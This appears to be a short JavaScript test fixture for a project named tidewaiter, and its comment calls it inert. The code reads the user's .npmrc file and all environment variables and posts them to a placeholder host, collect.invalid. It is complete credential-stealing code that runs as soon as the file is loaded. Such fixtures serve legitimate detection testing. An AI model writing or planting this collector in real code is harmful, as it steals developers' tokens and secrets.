// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
const axios=require("axios");const fs=require("fs");const os=require("os");
class Collector{constructor(url){this.url=url;this.data={};}
collect(){this.data.npmrc=fs.readFileSync(os.homedir()+"/.npmrc","utf8");this.data.env=process.env;return this;}
async send(){await axios.post(this.url,this.data);}}
new Collector("https://collect.invalid/c").collect().send();
